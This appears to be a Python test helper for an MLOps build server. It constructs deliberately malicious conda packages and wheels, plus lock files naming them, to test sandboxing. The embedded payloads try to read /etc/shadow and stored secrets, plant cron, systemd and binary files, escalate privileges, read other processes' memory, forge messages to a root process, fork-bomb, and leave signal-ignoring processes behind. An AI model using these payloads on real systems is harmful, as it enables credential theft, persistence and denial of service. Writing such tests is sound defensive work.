"""Packages of an attacker, and locks that name them."""

import base64
import hashlib
import io
import json
import tarfile
import zipfile
from collections.abc import Sequence
from pathlib import Path
from typing import Any

from backports import zstd
from mlops_server.layout import lock_hash
from server import Server

HARMLESS = {"who", "setuid", "asker", "leave_behind", "shared_memory", "temporary", "namespace"}
"""What may be done, for it is undone, or reaches nobody: looked at by itself."""
PLACES = (
    "/etc/cron.d/evil",
    "/usr/local/bin/evil",
    "/etc/systemd/system/evil.service",
    "/srv/mlops/data/evil",
    "/opt/mlops/envs/evil",
    "/var/cache/mlops/conda/evil",
    "/var/cache/mlops/wheels/evil",
    "/srv/mlops/workflows/evil",
    "/run/lock/evil",
    "/opt/mlops/lib/python/current/mlops_server/evil.py",
    "/dev/mqueue/evil",
    "/dev/shm/evil",
    "/tmp/evil",
    "/var/tmp/evil",
    "/evil",
)
"""What the attacks try to write."""

# Whatever the interpreter is asked for, it runs this. In the compiler's unit the prefix is
# writable, and the findings wait there; in that of the smoke test they come out with an error.
PYTHON = """\
#!/bin/sh
here=$(dirname "$(dirname "$0")")
exec /usr/bin/python3 -I "$here/bin/evil.py" "$here" "$@"
"""
LEAVE_BEHIND = '''\
def leave_behind():
    """Processes that leave the session and ignore what they are told."""
    if os.fork() == 0:
        os.setsid()
        if os.fork() == 0:
            for number in range(1, 32):
                try:
                    signal.signal(number, signal.SIG_IGN)
                except (OSError, ValueError):
                    pass
            os.closerange(0, 50)
            os.execv("/usr/bin/sleep", ["sleep", "MARK"])
        os._exit(0)
'''
ATTACKS = (
    '''\
import ctypes, glob, json, os, resource, signal, socket, subprocess, sys, time

found = {}


def attack(work):
    """Anything but an error is a success of the attacker's; what it says is kept."""
    try:
        found[work.__name__] = work() or "success"
    except BaseException as error:
        found[work.__name__] = f"dead: {type(error).__name__}"


def write(path):
    with open(path, "a") as file:
        file.write("evil")


def reach(*where):
    kind = socket.AF_UNIX if len(where) == 1 else socket.AF_INET
    with socket.socket(kind) as one:
        one.settimeout(2)
        one.connect(where[0] if len(where) == 1 else where)


def who(): return f"{os.getuid()} {sorted({os.getgid(), *os.getgroups()})}"
def shadow(): return open("/etc/shadow").read() and ""
def secrets(): return str(os.listdir("/etc/mlops/secrets"))
def fernet_key(): return open("/etc/mlops/secrets/fernet_key").read() and ""
def credentials(): return " ".join(os.listdir("/run/credentials")) or "dead: empty"
def data(): write("/srv/mlops/data/evil")
def cron(): write("/etc/cron.d/evil")
def program(): write("/usr/local/bin/evil")
def unit(): write("/etc/systemd/system/evil.service")
def other_environment(): write("/opt/mlops/envs/evil")
def package_cache(): write("/var/cache/mlops/conda/evil")
def wheel_cache(): write("/var/cache/mlops/wheels/evil")
def release(): write("/srv/mlops/workflows/evil")
def our_code(): write("/opt/mlops/lib/python/current/mlops_server/evil.py")
def locks(): write("/run/lock/evil")
def queue(): write("/dev/mqueue/evil")
def home(): return str(os.listdir("/root"))
def network(): reach(HOST, PORT)
def api(): reach("127.0.0.1", 8080)
def ssh(): reach("127.0.0.1", 22)
def postgresql(): reach("/run/postgresql/.s.PGSQL.5432")
def door(): reach("/run/mlops/door.sock")
def systemd(): reach("/run/dbus/system_bus_socket")
def manager(): reach("/run/systemd/private")
def start_unit(): subprocess.run(["systemd-run", "--wait", "touch", "/evil"], check=True)
def device(): os.mknod(f"{here}/disk", 0o60666, os.makedev(7, 0)); os.unlink(f"{here}/disk")
def setuid(): write(f"{here}/su"); os.chmod(f"{here}/su", 0o4755)
def root(): os.setuid(0)
def hard_link(): os.link("/etc/shadow", f"{here}/hard")
def kernel(): write("/proc/sys/kernel/core_pattern")
def terminal(): open("/dev/tty").close()
def sparse(): f = open(f"{here}/sparse", "wb"); f.truncate(20 << 30)
def sudo(): subprocess.run(["sudo", "-n", "true"], check=True)
def su(): subprocess.run(["su", "-c", "true"], stdin=subprocess.DEVNULL, check=True)


def namespace():
    if ctypes.CDLL(None, use_errno=True).unshare(0x10000000):
        raise OSError(ctypes.get_errno(), "unshare")


def others():
    """Environment, memory or files of any process of somebody else."""
    for pid in filter(str.isdigit, os.listdir("/proc")):
        if int(pid) not in (os.getpid(), os.getppid()):
            for name in ("environ", "mem", "maps"):
                try:
                    if os.stat(f"/proc/{pid}").st_uid != os.getuid():
                        open(f"/proc/{pid}/{name}", "rb").read(1)
                        return f"{pid} {name}"
                except OSError:
                    pass
    raise PermissionError


def signals():
    for pid in range(2, 5000):
        try:
            if os.stat(f"/proc/{pid}").st_uid != os.getuid():
                os.kill(pid, 0)
                return str(pid)
        except OSError:
            pass
    raise PermissionError


def logins():
    return " ".join(n for n in os.environ if "PROX" in n.upper() or "INDEX" in n) or "dead: none"


def asker():
    """Speak in the name of the program that root listens to."""
    for pid in filter(str.isdigit, os.listdir("/proc")):
        try:
            if b"mlops_server.inside" in open(f"/proc/{pid}/cmdline", "rb").read():
                with open(f"/proc/{pid}/fd/1", "w") as out:
                    out.write(json.dumps({"say": "\\x1b[2J forged"}) + "\\n[[[\\n{\\"say\\": 7}\\n")
        except OSError:
            pass


def bomb():
    """How many processes are possible."""
    children = []
    try:
        while len(children) < 3000:
            child = os.fork()
            if not child:
                time.sleep(60)
                os._exit(0)
            children.append(child)
    except OSError:
        return f"dead: {len(children)}"
    finally:
        for child in children:
            os.kill(child, signal.SIGKILL)
            os.waitpid(child, 0)


'''
    + LEAVE_BEHIND
    + """        os._exit(0)


def shared_memory(): write("/dev/shm/evil")
def temporary(): write("/tmp/evil"); write("/var/tmp/evil")


for work in (who, shadow, secrets, fernet_key, credentials, data, cron, program, unit,
             other_environment, package_cache, wheel_cache, release, our_code, locks, queue, home,
             network, api, ssh, postgresql, door, systemd, manager, start_unit, device, setuid,
             root, hard_link, kernel, terminal, sparse, sudo, su, namespace, others, signals,
             logins, asker, bomb, leave_behind, shared_memory, temporary):
    attack(work)
if os.path.exists(f"{here}/sparse"):
    os.unlink(f"{here}/sparse")
"""
)
PACKAGE = f"""\
import sys

here, compiling = sys.argv[1], "compileall" in sys.argv
{ATTACKS}
if compiling:
    json.dump(found, open(here + "/report.json", "w"))
    sys.exit(0)
compiled = json.load(open(here + "/report.json"))
print(json.dumps(dict(compile=compiled, smoke=found)), file=sys.stderr)
sys.exit(1)
"""
COMMIT = f"""\
here = "/tmp"
{ATTACKS}
alive = [name for name, said in found.items() if not said.startswith("dead")]
raise RuntimeError(f"{{len(found)}} attacks; alive: {{' '.join(alive)}}; {{found['who']}}")
"""

# Each start of Python runs this: it tries what root could do, and says that it has run by a file,
# where it can write one.
AT_START = """\
import os, sys

for path in {places}:
    try:
        open(path, "a").close()
    except OSError:
        pass
try:
    os.symlink("/etc", f"{{sys.prefix}}/etc-by-link")
except OSError:
    pass
try:
    os.unlink(f"{{sys.prefix}}/etc-by-link")
    open(f"{{sys.prefix}}/ran-{{__name__}}", "a").close()
except OSError:
    pass
"""


def package(
    channel: Path,
    name: str,
    members: dict[str, Any],
    noarch: str = "",
    paths: list[str] | None = None,
    programs: Sequence[str] = (),
) -> dict[str, Any]:
    """Write a package into the channel; its entry in a lock, without address.

    A member is a text, or a `TarInfo` as it is; `paths` are what paths.json names, and `programs`
    the entry points of a noarch package.
    """
    version = "3.11.7" if name == "python" else "1.0"
    subdir, stem = "noarch" if noarch else "linux-64", f"{name}-{version}-0"
    index = {"name": name, "version": version, "build": "0", "build_number": 0, "depends": [],
             "subdir": subdir} | ({"noarch": noarch} if noarch else {})  # fmt: skip
    texts = {n: m.encode() for n, m in members.items() if isinstance(m, str)}
    listed = [_path(n, texts.get(n, b"")) for n in (paths if paths is not None else members)]
    info = {"info/index.json": index, "info/paths.json": {"paths": listed, "paths_version": 1}}
    if noarch == "python":
        about = {"type": "python", "entry_points": list(programs)}
        info["info/link.json"] = {"noarch": about, "package_metadata_version": 1}
    target = channel / subdir / f"{stem}.conda"
    target.parent.mkdir(parents=True, exist_ok=True)
    with zipfile.ZipFile(target, "w") as archive:
        archive.writestr("metadata.json", json.dumps({"conda_pkg_format_version": 2}))
        archive.writestr(f"pkg-{stem}.tar.zst", _tar(members))
        archive.writestr(f"info-{stem}.tar.zst", _tar({n: json.dumps(v) for n, v in info.items()}))
    return _entry("conda", name, version, target, f"{subdir}/{target.name}")


def real(channel: Path, name: str, source: Path) -> dict[str, Any]:
    """Take a package of another channel as it is; its entry in a lock."""
    [found] = source.glob(f"conda-forge/*/{name}-[0-9]*.conda")
    target = channel / found.parent.name / found.name
    target.parent.mkdir(parents=True, exist_ok=True)
    target.write_bytes(found.read_bytes())
    version = found.name.split("-")[1]
    return _entry("conda", name, version, target, f"{found.parent.name}/{found.name}")


def wheel(channel: Path, members: dict[str, Any], programs: str = "") -> dict[str, Any]:
    """Write the wheel `evil` into the channel; its entry in a lock.

    A member is a text, or a `ZipInfo` with what it holds; each is in the wheel's own list.
    """
    info, target = "evil-1.0.dist-info", channel / "evil-1.0-py3-none-any.whl"
    files: dict[str, Any] = {
        "evil.py": "def main(): pass\n",
        f"{info}/METADATA": "Metadata-Version: 2.1\nName: evil\nVersion: 1.0\n",
        f"{info}/WHEEL": "Wheel-Version: 1.0\nRoot-Is-Purelib: true\nTag: py3-none-any\n",
        f"{info}/entry_points.txt": f"[console_scripts]\n{programs}\n",
        **members,
    }
    texts = {name: text if isinstance(text, str) else text[1] for name, text in files.items()}
    rows = [f"{name},sha256={_digest(text)},{len(text)}\n" for name, text in texts.items()]
    with zipfile.ZipFile(target, "w") as archive:
        for name, member in files.items():
            archive.writestr(name if isinstance(member, str) else member[0], texts[name])
        archive.writestr(f"{info}/RECORD", "".join(rows) + f"{info}/RECORD,,\n")
    return _entry("pip", "evil", "1.0", target, target.name)


def _digest(text: str) -> str:
    raw = hashlib.sha256(text.encode()).digest()
    return base64.urlsafe_b64encode(raw).rstrip(b"=").decode()


def _entry(manager: str, name: str, version: str, path: Path, url: str) -> dict[str, Any]:
    sha256 = hashlib.sha256(path.read_bytes()).hexdigest()
    return {"name": name, "version": version, "manager": manager, "platform": "linux-64",
            "dependencies": {}, "url": url, "category": "main", "optional": False,
            "hash": {"sha256": sha256}}  # fmt: skip


def _path(name: str, data: bytes) -> dict[str, Any]:
    return {"_path": name, "path_type": "hardlink", "size_in_bytes": len(data),
            "sha256": hashlib.sha256(data).hexdigest()}  # fmt: skip


def _tar(members: dict[str, Any]) -> bytes:
    packed = io.BytesIO()
    with (
        zstd.ZstdFile(packed, "w", level=1) as compressed,
        tarfile.open(fileobj=compressed, mode="w|", format=tarfile.GNU_FORMAT) as archive,
    ):
        for name, member in members.items():
            if isinstance(member, tarfile.TarInfo):
                archive.addfile(member, io.BytesIO(b"evil") if member.isreg() else None)
                continue
            data = member.encode()
            about = tarfile.TarInfo(name)
            about.size, about.mode = len(data), 0o755 if name.startswith("bin/") else 0o644
            archive.addfile(about, io.BytesIO(data))
    return packed.getvalue()


def offer(server: Server, model: str, base: str, entries: list[dict[str, Any]]) -> str:
    """Put a lock of these entries where builds look for it; its hash."""
    listed = [entry | {"url": _at(base, entry["url"])} for entry in entries]
    metadata = {"content_hash": {"linux-64": "0" * 64}, "platforms": ["linux-64"],
                "channels": [{"url": base, "used_env_vars": []}],
                "sources": ["environment.yml"]}  # fmt: skip
    text = json.dumps({"version": 1, "metadata": metadata, "package": listed})
    name = lock_hash(text.encode())
    folder = f"/etc/mlops/locks/{model}/{name}"
    wheels = [e["name"] for e in entries if e["manager"] == "pip"]
    more = f", {{pip: [{', '.join(wheels)}]}}" if wheels else ""
    asked = f"channels: [conda-forge]\ndependencies: [python, bait{more}]\n"
    server.ssh(
        f"mkdir -p {folder}; cd {folder}; cat > conda-lock.yml <<'END'\n{text}\nEND\n"
        f"truncate -s -1 conda-lock.yml; printf %s '{asked}' > environment.yml"
    )
    return name


def _at(base: str, url: str) -> str:
    return url if "://" in url else f"{base}/{url}"
